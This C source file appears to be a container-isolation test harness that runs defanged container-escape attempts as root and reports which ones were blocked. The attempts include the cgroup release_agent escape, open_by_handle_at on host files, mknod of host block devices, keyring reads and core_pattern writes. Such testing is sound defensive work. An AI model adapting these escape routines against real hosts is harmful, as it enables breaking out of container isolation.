/*
 * The escape attempts of issue 13, made by root inside a container (a
 * Lumen zone or a runc container): each prints one line
 *
 *     NAME VERDICT DETAIL
 *
 * VERDICT is "blocked" when the privileged step failed, "ESCAPED" when
 * it went through (the detail says how far). Whatever an attempt manages
 * to do is undone before it returns (unmounted, written back, removed),
 * so a run leaves the host as it was; what must stay for the host to
 * check (the release agent's marker) stays inside the container's root.
 * Each attempt is harmless even where the permission check passes: same
 * values written back, invalid arguments after the capability check,
 * sysrq 'h' (help) only, reads of the disk, never writes.
 *
 * Modes:
 *   escape attacks tag=T host-root=DIR handle=TYPE:HEX blockdev=MAJ:MIN key=DESC
 *   escape handle PATH       (host) a file handle of PATH, TYPE:HEX
 *   escape probe             (host) errnos of the harmless syscalls as real root
 *   escape addkey DESC DATA  (host) a "user" key in root's user keyring; its id
 *   escape rmkey ID          (host) unlink it again
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *tag = "x", *host_root = "", *handle_arg = "", *blockdev = "", *key_desc = "";

static const char *en(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "E?";
}

static void report(const char *name, int escaped, const char *fmt, ...)
{
	char detail[1024];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(detail, sizeof detail, fmt, ap);
	va_end(ap);
	/* One line each: the harness splits on the first two spaces. */
	for (char *p = detail; *p; p++)
		if (*p == '\n' || *p == '\r')
			*p = ' ';
	printf("%s %s %s\n", name, escaped ? "ESCAPED" : "blocked", detail);
	fflush(stdout);
}

/* Append to a detail buffer. */
static void add(char *buf, size_t size, const char *fmt, ...)
{
	size_t len = strlen(buf);
	va_list ap;
	if (len >= size - 1)
		return;
	va_start(ap, fmt);
	vsnprintf(buf + len, size - len, fmt, ap);
	va_end(ap);
}

static int read_file(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, size - 1);
	int e = errno;
	close(fd);
	if (n < 0) {
		errno = e;
		return -1;
	}
	buf[n] = 0;
	return (int)n;
}

/* Write the whole string; -1 with errno on failure. */
static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, text, strlen(text));
	int e = errno;
	close(fd);
	if (n < 0) {
		errno = e;
		return -1;
	}
	return 0;
}

static void chomp(char *s)
{
	size_t n = strlen(s);
	while (n && (s[n - 1] == '\n' || s[n - 1] == ' '))
		s[--n] = 0;
}

/*
 * A directory on the container's own disk (not a tmpfs) that root can
 * write: the release agent's payload must be reachable from the host
 * through host-root, and the ownership check stats a file there.
 */
static const char *disk_dir(void)
{
	static const char *dirs[] = {"/root", "/opt", "/var/tmp", "/", NULL};
	static char found[64];
	if (found[0])
		return found;
	for (int i = 0; dirs[i]; i++) {
		char probe[256];
		snprintf(probe, sizeof probe, "%s/.escape-probe-%s", strcmp(dirs[i], "/") ? dirs[i] : "", tag);
		int fd = open(probe, O_CREAT | O_WRONLY | O_EXCL, 0644);
		if (fd >= 0) {
			close(fd);
			unlink(probe);
			snprintf(found, sizeof found, "%s", strcmp(dirs[i], "/") ? dirs[i] : "");
			return found;
		}
	}
	return NULL;
}

/* The controller's group of this process, as /proc/self/cgroup names it. */
static int own_group(const char *controller, char *out, size_t size)
{
	FILE *f = fopen("/proc/self/cgroup", "r");
	char line[512];
	if (!f)
		return -1;
	while (fgets(line, sizeof line, f)) {
		char *c = strchr(line, ':');
		char *p = c ? strchr(c + 1, ':') : NULL;
		if (!p)
			continue;
		*p = 0;
		chomp(p + 1);
		/* "cpu,cpuacct" holds "cpu". */
		for (char *tok = strtok(c + 1, ","); tok; tok = strtok(NULL, ","))
			if (!strcmp(tok, controller)) {
				snprintf(out, size, "%s", p + 1);
				fclose(f);
				return 0;
			}
	}
	fclose(f);
	return -1;
}

/* ---- release_agent ---------------------------------------------------- */

/*
 * Mount each cgroup v1 hierarchy this process is in (and rdma, the
 * classic one, which would make a new hierarchy); where the mount root
 * shows release_agent, point it at a payload in our root (as seen from
 * the host), make a child group with notify_on_release and let a task
 * die in it: the kernel then runs the agent as host root in the host's
 * namespaces. The payload only writes a marker next to itself.
 */
static void attack_release_agent(void)
{
	char mounts[16][128];
	int n = 0;
	FILE *f = fopen("/proc/self/cgroup", "r");
	char line[512], detail[1024] = "";
	if (f) {
		while (n < 15 && fgets(line, sizeof line, f)) {
			char *c = strchr(line, ':');
			char *p = c ? strchr(c + 1, ':') : NULL;
			if (!p || p == c + 1)
				continue; /* the cgroup2 line "0::/" */
			*p = 0;
			snprintf(mounts[n++], sizeof mounts[0], "%s", c + 1);
		}
		fclose(f);
	}
	snprintf(mounts[n++], sizeof mounts[0], "rdma");
	char dir[64];
	snprintf(dir, sizeof dir, "/tmp/escape-ra-%s", tag);
	mkdir(dir, 0700);
	for (int i = 0; i < n; i++) {
		if (mount("cgroup", dir, "cgroup", 0, mounts[i]) != 0) {
			add(detail, sizeof detail, "mount %s: %s; ", mounts[i], en(errno));
			continue;
		}
		char agent[256], old[4096];
		snprintf(agent, sizeof agent, "%s/release_agent", dir);
		if (read_file(agent, old, sizeof old) < 0) {
			add(detail, sizeof detail, "mounted %s, no release_agent at its root; ", mounts[i]);
			umount2(dir, MNT_DETACH);
			continue;
		}
		const char *home = disk_dir();
		if (!home) {
			add(detail, sizeof detail, "mounted %s, nowhere to put a payload; ", mounts[i]);
			umount2(dir, MNT_DETACH);
			continue;
		}
		char payload[256], marker_in[256], payload_host[512], script[1024];
		snprintf(payload, sizeof payload, "%s/escape-payload-%s", home, tag);
		snprintf(marker_in, sizeof marker_in, "%s/escape-ran-%s", home, tag);
		snprintf(payload_host, sizeof payload_host, "%s%s", host_root, payload);
		snprintf(script, sizeof script, "#!/bin/sh\necho \"$1\" > %s%s\n", host_root, marker_in);
		int fd = open(payload, O_CREAT | O_WRONLY | O_TRUNC, 0755);
		if (fd < 0 || write(fd, script, strlen(script)) < 0) {
			add(detail, sizeof detail, "payload %s: %s; ", payload, en(errno));
			if (fd >= 0)
				close(fd);
			umount2(dir, MNT_DETACH);
			continue;
		}
		close(fd);
		if (write_file(agent, payload_host) != 0) {
			report("release_agent", 0, "%swrite release_agent on %s: %s", detail, mounts[i], en(errno));
			umount2(dir, MNT_DETACH);
			rmdir(dir);
			return;
		}
		/* The agent is set: from here on it is an escape; try to run it. */
		char child[256], file[300];
		snprintf(child, sizeof child, "%s/escape-%s", dir, tag);
		mkdir(child, 0755);
		snprintf(file, sizeof file, "%s/notify_on_release", child);
		write_file(file, "1");
		snprintf(file, sizeof file, "%s/cgroup.procs", child);
		pid_t pid = fork();
		if (pid == 0) {
			/* Join the group and die: it empties, the agent runs. */
			write_file(file, "0");
			_exit(0);
		}
		waitpid(pid, NULL, 0);
		int ran = 0;
		for (int t = 0; t < 60 && !ran; t++) {
			ran = access(marker_in, F_OK) == 0;
			if (!ran)
				usleep(50000);
		}
		for (int t = 0; t < 100 && rmdir(child) != 0 && errno == EBUSY; t++)
			usleep(10000);
		/* Put the old agent back ("\n" clears it: the kernel strips it). */
		chomp(old);
		write_file(agent, old[0] ? old : "\n");
		umount2(dir, MNT_DETACH);
		rmdir(dir);
		report("release_agent", 1, "release_agent of %s set to %s; payload %s as host root", mounts[i],
		       payload_host, ran ? "RAN" : "did not run within 3 s");
		return;
	}
	rmdir(dir);
	report("release_agent", 0, "%s", detail);
}

/* ---- open_by_handle_at ("shocker") ------------------------------------ */

/*
 * Open a host file outside our root by its handle, with our /usr (a bind
 * of the host's, on the same filesystem) as the mount fd: needs
 * CAP_DAC_READ_SEARCH in the host's user namespace.
 */
static void attack_open_by_handle(void)
{
	int type;
	char hex[600];
	if (sscanf(handle_arg, "%d:%599s", &type, hex) != 2) {
		report("open_by_handle_at", 0, "bad handle argument %s", handle_arg);
		return;
	}
	size_t bytes = strlen(hex) / 2;
	struct file_handle *fh = calloc(1, sizeof *fh + bytes);
	fh->handle_bytes = bytes;
	fh->handle_type = type;
	for (size_t i = 0; i < bytes; i++)
		sscanf(hex + 2 * i, "%2hhx", &fh->f_handle[i]);
	int mfd = open("/usr", O_RDONLY | O_DIRECTORY);
	if (mfd < 0) {
		report("open_by_handle_at", 0, "open /usr: %s", en(errno));
		free(fh);
		return;
	}
	int fd = open_by_handle_at(mfd, fh, O_RDONLY);
	int e = errno;
	close(mfd);
	free(fh);
	if (fd < 0) {
		report("open_by_handle_at", 0, "%s", en(e));
		return;
	}
	char buf[256] = "";
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	buf[n > 0 ? n : 0] = 0;
	report("open_by_handle_at", 1, "opened the host file; read %zd bytes: %s", n, buf);
}

/* ---- remount /usr read-write ------------------------------------------ */

static void attack_remount_usr(void)
{
	struct statvfs s;
	char path[128], detail[512] = "";
	snprintf(path, sizeof path, "/usr/lumen-escape-%s", tag);
	if (statvfs("/usr", &s) != 0) {
		report("remount_usr_rw", 0, "statvfs /usr: %s", en(errno));
		return;
	}
	/* Keep the mount's other flags: a remount that drops a locked flag
	 * fails for that reason alone, and an attacker would keep them. */
	unsigned long keep = MS_REMOUNT | MS_BIND;
	if (s.f_flag & ST_NOSUID)
		keep |= MS_NOSUID;
	if (s.f_flag & ST_NODEV)
		keep |= MS_NODEV;
	if (s.f_flag & ST_NOEXEC)
		keep |= MS_NOEXEC;
	if (s.f_flag & ST_NOATIME)
		keep |= MS_NOATIME;
	if (s.f_flag & ST_NODIRATIME)
		keep |= MS_NODIRATIME;
	if (s.f_flag & ST_RELATIME)
		keep |= MS_RELATIME;
	int remounted = 0;
	if (!(s.f_flag & ST_RDONLY)) {
		add(detail, sizeof detail, "/usr is not read-only; ");
	} else if (mount(NULL, "/usr", NULL, keep, NULL) == 0) {
		remounted = 1;
		add(detail, sizeof detail, "remounted rw; ");
	} else {
		add(detail, sizeof detail, "remount: %s; ", en(errno));
	}
	int fd = open(path, O_CREAT | O_WRONLY | O_EXCL, 0644);
	int e = errno;
	if (fd >= 0) {
		write(fd, "escaped\n", 8);
		close(fd);
		unlink(path);
	}
	if (remounted)
		mount(NULL, "/usr", NULL, keep | MS_RDONLY, NULL);
	if (fd >= 0)
		report("remount_usr_rw", 1, "%swrote %s on the host's /usr (removed)", detail, path);
	else
		report("remount_usr_rw", remounted, "%swrite: %s", detail, en(e));
}

/* ---- cgroup limits ----------------------------------------------------- */

/* Whether a limit's text means "no limit" (so the same text goes back). */
static int unlimited(const char *v)
{
	return !strcmp(v, "max") || !strcmp(v, "-1") || strtoull(v, NULL, 10) >= (1ULL << 62);
}

/*
 * Raise one of our own group's limits: through a cgroup filesystem the
 * runtime mounted for us, else through one we mount. Doubles a finite
 * limit (writes an unlimited one back as it is), then restores it.
 */
static void attack_cgroup(const char *controller, const char *file)
{
	char name[64], group[256] = "/", detail[1024] = "", mnt[64];
	snprintf(name, sizeof name, "cgroup_%s", file);
	own_group(controller, group, sizeof group);
	snprintf(mnt, sizeof mnt, "/tmp/escape-cg-%s-%s", controller, tag);
	int mounted = 0;
	for (int attempt = 0; attempt < 2; attempt++) {
		char base[128];
		if (attempt == 0) {
			snprintf(base, sizeof base, "/sys/fs/cgroup/%s", controller);
		} else {
			mkdir(mnt, 0700);
			if (mount("cgroup", mnt, "cgroup", 0, controller) != 0) {
				add(detail, sizeof detail, "mount %s: %s", controller, en(errno));
				rmdir(mnt);
				break;
			}
			mounted = 1;
			snprintf(base, sizeof base, "%s", mnt);
		}
		/* Our group under the mount (no cgroup namespace), or the mount
		 * itself (a namespace, or a runtime that binds our group there). */
		char paths[2][512];
		snprintf(paths[0], sizeof paths[0], "%s%s/%s", base, strcmp(group, "/") ? group : "", file);
		snprintf(paths[1], sizeof paths[1], "%s/%s", base, file);
		const char *path = access(paths[0], F_OK) == 0 ? paths[0] : paths[1];
		char old[64];
		if (read_file(path, old, sizeof old) < 0) {
			add(detail, sizeof detail, "%s: %s; ", path, en(errno));
			continue;
		}
		chomp(old);
		char raised[64];
		if (unlimited(old))
			snprintf(raised, sizeof raised, "%s", old);
		else
			snprintf(raised, sizeof raised, "%llu", strtoull(old, NULL, 10) * 2);
		/* The memory limit cannot pass memory+swap's: raise that first
		 * (by as much), put it back last. */
		char sw[600], sw_old[64] = "";
		snprintf(sw, sizeof sw, "%.*s/memory.memsw.limit_in_bytes", (int)(strrchr(path, '/') - path), path);
		if (!strcmp(file, "memory.limit_in_bytes") && read_file(sw, sw_old, sizeof sw_old) > 0) {
			chomp(sw_old);
			if (!unlimited(sw_old)) {
				char sw_raised[64];
				snprintf(sw_raised, sizeof sw_raised, "%llu", strtoull(sw_old, NULL, 10) * 2);
				if (write_file(sw, sw_raised) != 0)
					add(detail, sizeof detail, "write %s: %s; ", sw, en(errno));
			} else {
				sw_old[0] = 0;
			}
		}
		if (write_file(path, raised) != 0) {
			add(detail, sizeof detail, "write %s: %s; ", path, en(errno));
			if (sw_old[0])
				write_file(sw, sw_old);
			continue;
		}
		char now[64] = "?";
		read_file(path, now, sizeof now);
		chomp(now);
		write_file(path, old);
		if (sw_old[0])
			write_file(sw, sw_old);
		if (mounted)
			umount2(mnt, MNT_DETACH), rmdir(mnt);
		report(name, 1, "%swrote %s over %s at %s (now %s; restored)", detail, raised, old, path, now);
		return;
	}
	if (mounted)
		umount2(mnt, MNT_DETACH), rmdir(mnt);
	report(name, 0, "%s", detail);
}

/* ---- mknod + open of a host block device ------------------------------ */

static void attack_mknod(void)
{
	unsigned maj, min;
	char detail[1024] = "";
	if (sscanf(blockdev, "%u:%u", &maj, &min) != 2) {
		report("mknod_blockdev", 0, "bad blockdev argument %s", blockdev);
		return;
	}
	/* /dev and /tmp are often tmpfs without nodev; the rest is our disk. */
	const char *dirs[] = {"/dev", "/tmp", "/root", "/opt", "", NULL};
	for (int i = 0; dirs[i]; i++) {
		char node[128];
		snprintf(node, sizeof node, "%s/escape-blk-%s", dirs[i], tag);
		if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) != 0) {
			add(detail, sizeof detail, "mknod %s: %s; ", node, en(errno));
			continue;
		}
		int fd = open(node, O_RDONLY);
		int e = errno;
		unlink(node);
		if (fd < 0) {
			add(detail, sizeof detail, "mknod %s ok, open: %s; ", node, en(e));
			continue;
		}
		/* The first bytes, printable, show what was read (the test's
		 * loop device starts with a text of its own). */
		char head[33] = "";
		ssize_t n = pread(fd, head, 32, 0);
		close(fd);
		for (ssize_t j = 0; j < n; j++)
			if (head[j] < 0x21 || head[j] > 0x7e)
				head[j] = '.';
		head[n > 0 ? n : 0] = 0;
		report("mknod_blockdev", 1, "%sopened %u:%u through %s, read: %s", detail, maj, min, node, head);
		return;
	}
	report("mknod_blockdev", 0, "%s", detail);
}

/* ---- single syscalls --------------------------------------------------- */

static long try_bpf(void)
{
	union bpf_attr a;
	memset(&a, 0, sizeof a);
	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = 4;
	a.value_size = 4;
	a.max_entries = 1;
	return syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
}

/* A CPU-wide counter (pid -1, cpu 0): every task on the CPU. */
static long try_perf(void)
{
	struct perf_event_attr a;
	memset(&a, 0, sizeof a);
	a.size = sizeof a;
	a.type = PERF_TYPE_SOFTWARE;
	a.config = PERF_COUNT_SW_CPU_CLOCK;
	a.disabled = 1;
	return syscall(SYS_perf_event_open, &a, -1, 0, -1, 0);
}

/* Module loading with nothing to load: ENOEXEC (an empty image) once
 * CAP_SYS_MODULE has been granted, EPERM before. */
static long try_init_module(void)
{
	return syscall(SYS_init_module, NULL, 0UL, "");
}

/* fd -1: EBADF after the permission check, EPERM before. */
static long try_finit_module(void)
{
	return syscall(SYS_finit_module, -1, "", 0);
}

/* No segments and an unknown flag: EINVAL after the CAP_SYS_BOOT check,
 * EPERM before it. */
static long try_kexec(void)
{
	return syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0x8000UL);
}

/* A syscall whose success means escape; `passed` errnos mean the
 * permission check was passed and only the harmless arguments failed. */
static void single(const char *name, long (*f)(void), int passed)
{
	long r = f();
	int e = errno;
	if (r >= 0) {
		close((int)r);
		report(name, 1, "succeeded (fd closed)");
	} else if (e == passed) {
		report(name, 1, "%s: past the permission check", en(e));
	} else {
		report(name, 0, "%s", en(e));
	}
}

/* Open a /proc file for writing; a runtime may mask it with /dev/null or
 * make it read-only. */
static int open_proc(const char *name, const char *path, int flags)
{
	int fd = open(path, flags);
	if (fd < 0) {
		report(name, 0, "open: %s", en(errno));
		return -1;
	}
	struct stat st;
	if (fstat(fd, &st) == 0 && S_ISCHR(st.st_mode)) {
		report(name, 0, "masked (a character device is bound over it)");
		close(fd);
		return -1;
	}
	return fd;
}

/* The host's core_pattern: its value written back as it is. */
static void attack_core_pattern(void)
{
	int fd = open_proc("core_pattern", "/proc/sys/kernel/core_pattern", O_RDWR);
	if (fd < 0)
		return;
	char old[256];
	ssize_t n = read(fd, old, sizeof old - 1);
	if (n <= 0) {
		report("core_pattern", 0, "read: %s", en(errno));
		close(fd);
		return;
	}
	old[n] = 0;
	lseek(fd, 0, SEEK_SET);
	ssize_t w = write(fd, old, strlen(old));
	int e = errno;
	close(fd);
	chomp(old);
	if (w < 0)
		report("core_pattern", 0, "write: %s", en(e));
	else
		report("core_pattern", 1, "wrote the host's core_pattern (its own value, %s, back)", old);
}

/* 'h' only prints sysrq's help to the kernel log. */
static void attack_sysrq(void)
{
	int fd = open_proc("sysrq_trigger", "/proc/sysrq-trigger", O_WRONLY);
	if (fd < 0)
		return;
	ssize_t w = write(fd, "h", 1);
	int e = errno;
	close(fd);
	if (w < 0)
		report("sysrq_trigger", 0, "write: %s", en(e));
	else
		report("sysrq_trigger", 1, "wrote 'h' to the host's sysrq-trigger");
}

/* Read the key the host put in root's user keyring: the keyrings are
 * not namespaced, only keyed by (user namespace, uid). */
static void attack_keyctl(void)
{
	long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", key_desc, 0);
	int e1 = errno;
	const char *where = "@u";
	if (id < 0) {
		id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", key_desc, 0);
		where = "@s";
	}
	if (id < 0) {
		report("keyctl", 0, "search @u: %s, @s: %s", en(e1), en(errno));
		return;
	}
	char buf[256] = "";
	long n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
	const char *how = "";
	if (n < 0) {
		/* Reading takes possession: a key is possessed when our session
		 * keyring reaches it, so link the user keyring there (as
		 * `keyctl link @u @s` does), read, and unlink it again. */
		int e = errno;
		if (syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING) != 0) {
			report("keyctl", 1, "found the host's key %ld in %s (read: %s, link @u @s: %s)", id, where,
			       en(e), en(errno));
			return;
		}
		n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
		e = errno;
		syscall(SYS_keyctl, KEYCTL_UNLINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING);
		if (n < 0) {
			report("keyctl", 1, "found the host's key %ld in %s (read after link @u @s: %s)", id, where,
			       en(e));
			return;
		}
		how = " after link @u @s";
	}
	buf[n < (long)sizeof buf - 1 ? n : (long)sizeof buf - 1] = 0;
	report("keyctl", 1, "read the host's key %ld in %s%s: %s", id, where, how, buf);
}

static void attack_dmesg(void)
{
	static char buf[1 << 16];
	int n = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buf, sizeof buf);
	if (n < 0)
		report("dmesg", 0, "%s", en(errno));
	else
		report("dmesg", 1, "read %d bytes of the host's kernel log", n);
}

/* Not a verdict of ours: the host stats the file and judges its owner. */
static void file_owner(void)
{
	const char *home = disk_dir();
	if (!home) {
		printf("file_owner host-check -\n");
		return;
	}
	char path[128];
	snprintf(path, sizeof path, "%s/escape-owned-%s", home, tag);
	int fd = open(path, O_CREAT | O_WRONLY, 0644);
	if (fd >= 0)
		close(fd);
	printf("file_owner host-check %s\n", fd >= 0 ? path : "-");
}

/* ---- host helpers ------------------------------------------------------ */

static int print_handle(const char *path)
{
	struct file_handle *fh = calloc(1, sizeof *fh + MAX_HANDLE_SZ);
	int mount_id;
	fh->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0) != 0) {
		perror("name_to_handle_at");
		return 1;
	}
	printf("%d:", fh->handle_type);
	for (unsigned i = 0; i < fh->handle_bytes; i++)
		printf("%02x", fh->f_handle[i]);
	printf("\n");
	return 0;
}

static void probe(const char *name, long (*f)(void))
{
	long r = f();
	if (r >= 0) {
		close((int)r);
		printf("%s ok\n", name);
	} else {
		printf("%s %s\n", name, en(errno));
	}
}

int main(int argc, char **argv)
{
	if (argc >= 2 && !strcmp(argv[1], "handle") && argc == 3)
		return print_handle(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "probe")) {
		probe("bpf", try_bpf);
		probe("perf_event_open", try_perf);
		probe("init_module", try_init_module);
		probe("finit_module", try_finit_module);
		probe("kexec_load", try_kexec);
		printf("sysrq_trigger %s\n", access("/proc/sysrq-trigger", F_OK) == 0 ? "ok" : en(errno));
		return 0;
	}
	if (argc == 4 && !strcmp(argv[1], "addkey")) {
		long id = syscall(SYS_add_key, "user", argv[2], argv[3], strlen(argv[3]), KEY_SPEC_USER_KEYRING);
		if (id < 0) {
			perror("add_key");
			return 1;
		}
		printf("%ld\n", id);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "rmkey")) {
		long id = atol(argv[2]);
		syscall(SYS_keyctl, KEYCTL_UNLINK, id, KEY_SPEC_USER_KEYRING);
		syscall(SYS_keyctl, KEYCTL_INVALIDATE, id);
		return 0;
	}
	if (argc < 2 || strcmp(argv[1], "attacks")) {
		fprintf(stderr, "usage: escape attacks|handle|probe|addkey|rmkey ...\n");
		return 2;
	}
	for (int i = 2; i < argc; i++) {
		char *eq = strchr(argv[i], '=');
		if (!eq)
			continue;
		*eq = 0;
		const char *v = eq + 1;
		if (!strcmp(argv[i], "tag"))
			tag = v;
		else if (!strcmp(argv[i], "host-root"))
			host_root = v;
		else if (!strcmp(argv[i], "handle"))
			handle_arg = v;
		else if (!strcmp(argv[i], "blockdev"))
			blockdev = v;
		else if (!strcmp(argv[i], "key"))
			key_desc = v;
	}
	file_owner();
	attack_release_agent();
	attack_open_by_handle();
	attack_remount_usr();
	attack_cgroup("pids", "pids.max");
	attack_cgroup("cpu", "cpu.cfs_quota_us");
	attack_cgroup("memory", "memory.limit_in_bytes");
	attack_mknod();
	single("bpf", try_bpf, -1);
	single("perf_event_open", try_perf, -1);
	attack_core_pattern();
	attack_sysrq();
	single("init_module", try_init_module, ENOEXEC);
	single("finit_module", try_finit_module, EBADF);
	single("kexec_load", try_kexec, EINVAL);
	attack_keyctl();
	attack_dmesg();
	return 0;
}
